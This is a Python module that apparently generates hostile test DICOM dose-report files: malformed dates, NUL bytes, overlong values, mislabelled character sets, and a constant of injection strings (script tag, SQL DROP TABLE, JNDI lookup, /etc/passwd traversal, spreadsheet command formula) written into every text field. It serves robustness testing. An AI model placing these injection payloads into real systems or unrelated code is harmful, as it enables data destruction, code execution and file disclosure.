"""Text, names, dates and character sets."""

from __future__ import annotations

from orthanc_dose.samples import codes as c
from orthanc_dose.samples.document import Patient, Study, System, part10, put
from orthanc_dose.samples.hostile.registry import entry, events_of, named, report, with_header
from orthanc_dose.samples.sr import (
    datetime_item,
    element,
)
from orthanc_dose.samples.vendors import VENDORS

_NASTY = (
    "<script>alert(1)</script>'; DROP TABLE studies;-- \"&amp; %s {0} ${jndi:ldap://x} ../../etc/passwd "
    "=cmd|' /C calc'!A0"
)


@entry
def nasty_text_everywhere(seed: int) -> bytes:
    """Write HTML, SQL, format strings and a spreadsheet formula into every text."""
    events = events_of("nasty_text_everywhere", seed)
    for event in events:
        event.protocol = event.comment = event.modulation = event.label = _NASTY
        event.person = _NASTY[:60]
    study = Study(
        description=_NASTY,
        accession_number="'\"<b>;--",
        requested_procedure=_NASTY,
        protocol=_NASTY,
        referring="<i>^'--",
        operators="=1+1^",
        performing='"><img src=x>',
    )
    system = System(
        vendor=VENDORS["standard"],
        institution=_NASTY,
        department=_NASTY,
        station="<u>'--",
        serial=_NASTY,
    )
    return part10(
        report(
            "nasty_text_everywhere",
            seed,
            events=events,
            study=study,
            system=system,
            comment=_NASTY,
            patient=Patient(name="<b>Sample</b>^'--"),
            participants=True,
        )
    )


@entry
def nul_bytes(seed: int) -> bytes:
    events = events_of("nul_bytes", seed)
    for event in events:
        event.protocol = "Ab\0do\0men\0"
        event.comment = "\0" * 20
    return part10(
        report("nul_bytes", seed, events=events, study=Study(description="CT\0 abdomen\0"))
    )


for _name, _day, _clock in (
    ("date_zeros", "00000000", "000000"),
    ("date_impossible", "20231345", "256199"),
    ("date_empty", "", ""),
    ("date_dashes", "2023-03-14", "09:26:53"),
    ("date_dots", "2023.03.14", "09.26"),
    ("date_text", "yesterday", "noon"),
    ("date_year_only", "2023", "9"),
    ("date_far", "99991231", "235960.999999"),
    ("date_range", "20230101-20231231", "0000-2359"),
    ("date_multiple", "20230101\\20230202", "090000\\100000"),
):

    def _dated(seed: int, name: str = _name, day: str = _day, clock: str = _clock) -> bytes:
        ds = report(
            name,
            seed,
            extra=[
                datetime_item(c.START, day + clock),
                datetime_item(c.STARTED, day),
                datetime_item(c.END, f"{day}{clock}+9900"),
            ],
        )
        for keyword in ("StudyDate", "SeriesDate", "ContentDate", "PatientBirthDate"):
            ds.pop(keyword)
            put(ds, **{keyword: day})
        put(ds, StudyTime=clock, ContentTime=clock, TimezoneOffsetFromUTC="+9999")
        return part10(ds)

    named(_name, _dated)


@entry
def patient_values_wrong(seed: int) -> bytes:
    return with_header(
        "patient_values_wrong",
        seed,
        PatientAge="old",
        PatientSex="X\\M",
        PatientSize="1,72 m",
        PatientWeight="heavy",
        PatientName="A^" * 200 + "\\B^C",
        PatientBirthDate="19700231",
    )


@entry
def study_values_long(seed: int) -> bytes:
    return with_header(
        "study_values_long",
        seed,
        AccessionNumber="A" * 500,
        StudyDescription="D" * 60_000,
        StationName="S" * 300,
        Manufacturer="M" * 2000,
        SeriesNumber="99999999999999999999",
    )


@entry
def latin1_said_to_be_utf8(seed: int) -> bytes:
    ds = report(
        "latin1_said_to_be_utf8",
        seed,
        vendor="siemens-ct",
        study=Study(description="Schädel nativ"),
        patient=Patient(name="Sample^Jürgen"),
        comment="größer, naïve café",
    )
    return part10(ds).replace(b"ISO_IR 100", b"ISO_IR 192", 1)


def _japanese(name: str, seed: int) -> bytes:
    return part10(
        report(
            name,
            seed,
            vendor="toshiba-ct",
            study=Study(description="腹部CT"),
            patient=Patient(name="Sample^Hanako=見本^花子"),
            comment="造影剤を使用",
        )
    )


@entry
def japanese_without_character_set(seed: int) -> bytes:
    """Write ISO 2022 escapes in an object that declares no character set."""
    declared = element(8, 5, b"CS", b"\\ISO 2022 IR 87")
    return _japanese("japanese_without_character_set", seed).replace(declared, b"", 1)


@entry
def shift_jis_without_character_set(seed: int) -> bytes:
    name = "shift_jis_without_character_set"
    whole = part10(
        report(name, seed, vendor="ge-esr", study=Study(description="@@@@@@@@"), comment="@@@@@@@@")
    )
    return whole.replace(b"@@@@@@@@", "腹部検査".encode("shift_jis"))


for _name, _set in (
    ("character_set_unknown", b"ISO_IR 999"),
    ("character_set_contradictory", b"ISO_IR 192\\GBK"),
):

    def _charset(seed: int, name: str = _name, charset: bytes = _set) -> bytes:
        declared = element(8, 5, b"CS", b"ISO_IR 100")
        ds = report(
            name, seed, vendor="siemens-ct", study=Study(description="Schädel"), comment="größer"
        )
        return part10(ds).replace(declared, element(8, 5, b"CS", charset), 1)

    named(_name, _charset)
